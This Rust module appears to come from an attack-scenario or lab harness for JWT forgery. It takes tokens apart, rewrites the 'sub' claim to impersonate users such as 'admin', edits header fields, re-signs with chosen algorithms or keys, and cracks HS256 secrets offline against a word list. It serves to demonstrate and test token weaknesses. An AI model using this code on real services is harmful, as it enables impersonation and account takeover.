//! What a forger does offline: take a token apart, change it, put it together again.
//!
//! A JWT is two JSON objects and a signature, each in base64url, joined by dots (RFC 7515 §7.1).
//! Base64url is an alphabet and not a cipher. So reading and writing need no key; only a right
//! signature does.
//!
//! Nothing here asks the portal, so the portal cannot notice or slow it down. jwt_tool does the
//! same.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::Value;

use super::super::scenario::ScenarioError;
use super::super::word_list::WORDS;
use crate::jwt::signature;

/// A token taken apart.
#[derive(Clone, Debug)]
pub(in crate::attacks) struct TokenParts {
    /// The header.
    pub header: Value,
    /// The payload.
    pub claims: Value,
    /// The original token.
    token: String,
}

impl TokenParts {
    /// Takes a token apart. Anyone can: the parts are encoded, not encrypted.
    pub fn of(token: &str) -> Result<Self, ScenarioError> {
        let broken = || ScenarioError::Unexpected("a token is not in three parts".into());
        let mut parts = token.split('.').map(decode);
        let (header, claims) = (parts.next().flatten(), parts.next().flatten());
        Ok(Self {
            header: header.ok_or_else(broken)?,
            claims: claims.ok_or_else(broken)?,
            token: token.to_owned(),
        })
    }

    /// The same in another user's name. `sub` is the claim by which the API knows its user.
    #[must_use]
    pub fn in_the_name_of(mut self, user: &str) -> Self {
        self.claims["sub"] = user.into();
        self
    }

    /// The same with another member in the header. The header tells the verifier how to check the
    /// token, and the sender writes it: that is the root of most forgeries here.
    #[must_use]
    pub fn with_header(mut self, name: &str, value: impl Into<Value>) -> Self {
        self.header[name] = value.into();
        self
    }

    /// The signature of the original token. It covers the original header and payload, so it fits
    /// no changed token.
    pub fn old_signature(&self) -> &str {
        self.token.rsplit('.').next().unwrap_or_default()
    }

    /// Put together again with this signature, whatever it is: an old one, an empty one, one of
    /// another key.
    pub fn signed_with(&self, signature: &str) -> String {
        let signed = signature::signing_input(&self.header, &self.claims);
        // A JSON value always becomes JSON text.
        format!("{}.{signature}", signed.unwrap_or_default())
    }

    /// Put together again and signed with HS256: one secret both signs and verifies, so anyone who
    /// can verify can also sign.
    pub fn hs256(mut self, key: &[u8]) -> Result<String, ScenarioError> {
        self.header["alg"] = "HS256".into();
        self.sign(&EncodingKey::from_secret(key), Algorithm::HS256)
    }

    /// Put together again and signed with ES256: a private key signs, and its public half verifies.
    pub fn es256(mut self, key: Option<EncodingKey>) -> Result<String, ScenarioError> {
        self.header["alg"] = "ES256".into();
        let missing = || ScenarioError::Unexpected("the attacker has no key".into());
        self.sign(&key.ok_or_else(missing)?, Algorithm::ES256)
    }

    fn sign(&self, key: &EncodingKey, algorithm: Algorithm) -> Result<String, ScenarioError> {
        let token = signature::sign(&self.header, &self.claims, key, algorithm);
        token.ok_or_else(|| ScenarioError::Unexpected("the key does not sign".into()))
    }

    /// The word that signed the original token. The portal is not asked, so it cannot count the
    /// guesses. One token is a complete test: its first two parts are the text, and its third tells
    /// a right guess from a wrong one.
    pub fn cracked(&self) -> Option<&'static str> {
        let signs = |word: &&str| {
            let signed = self.token.rsplit_once('.').map(|(signed, _)| signed);
            let key = EncodingKey::from_secret(word.as_bytes());
            let signature =
                signed.and_then(|signed| signature::over(signed, &key, Algorithm::HS256));
            signature.as_deref() == Some(self.old_signature())
        };
        WORDS.into_iter().find(signs)
    }
}

fn decode(part: &str) -> Option<Value> {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn token(key: &[u8]) -> String {
        let parts = TokenParts {
            header: json!({"alg": "HS256"}),
            claims: json!({"sub": "mallory"}),
            token: String::new(),
        };
        parts.hs256(key).expect("a token")
    }

    #[test]
    fn a_token_comes_apart_and_together_again() {
        let token = token(b"secret");
        let parts = TokenParts::of(&token).expect("three parts");
        assert_eq!(parts.claims["sub"], "mallory");
        assert_eq!(parts.signed_with(parts.old_signature()), token);
        let forged = parts.in_the_name_of("admin");
        assert_eq!(forged.claims["sub"], "admin");
        assert!(TokenParts::of("x.y").is_err());
    }

    #[test]
    fn a_word_of_the_list_is_found_and_a_random_key_is_not() {
        let cracked = |key: &[u8]| TokenParts::of(&token(key)).expect("three parts").cracked();
        assert_eq!(cracked(b"secret"), Some("secret"));
        assert_eq!(cracked(&[7; 32]), None);
        assert_eq!(cracked(b""), None);
    }
}
